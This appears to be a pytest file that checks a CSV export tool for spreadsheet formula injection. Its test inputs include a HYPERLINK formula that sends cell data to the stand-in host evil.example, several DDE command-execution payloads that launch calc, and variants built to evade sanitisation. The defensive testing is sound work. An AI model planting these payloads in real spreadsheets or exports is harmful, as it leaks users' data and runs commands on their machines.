import csv
import io
import re


def audit(box, *bookings):
    return box.run(*[word for booking in bookings for word in booking]).stdout


def calculates(box, *bookings):
    rows = csv.reader(io.StringIO(audit(box, *bookings), newline=""))
    return any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not re.fullmatch(r"[+-]?[\d.]+", cell) for row in rows for cell in row)


def test_purpose(box):
    for text in ('=HYPERLINK("https://evil.example/?"&B2,"bill")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(D2:D9)", "=D2"):
        assert not calculates(box, ("2024-03-01", "Jo", text, "-12.5"), ("2024-03-01", "Ann", "Fee", "1"))


def test_member_also_in_the_total(box):
    for text in ("=1+1", "+A1", "-A1", "@A1"):
        assert not calculates(box, ("2024-03-01", text, "Oars", "-12.5"))


def test_text_that_begins_like_an_amount(box):
    for text in ("-12.50-A1", "+30*D2", "-1e3+A1", "+1,=D2"):
        assert not calculates(box, ("2024-03-01", "Jo", text, "-12.5"), ("2024-03-02", text, "Oars", "-1"))


def test_behind_another_sign(box):
    for text in ("==1+1", "\t=1+1", "\r=1+1", "-=1+1", "Oars,=1+1", 'Oars",=1+1', "\n=1+1,=2", " =1+1", "Oars\r=1+1"):
        assert not calculates(box, ("2024-03-01", "Jo", text, "-12.5"))
        assert not calculates(box, ("2024-03-01", text, "Oars", "-12.5"))


def test_date(box):
    for text in ("=1+1", "+A1", "-2+3+cmd|' /C calc'!A0", "@SUM(D2:D9)", '=HYPERLINK("https://evil.example/?"&B2,"bill")'):
        assert not calculates(box, (text, "Jo", "Oars", "-12.5"), ("2024-03-01", "Ann", "Fee", "1"))
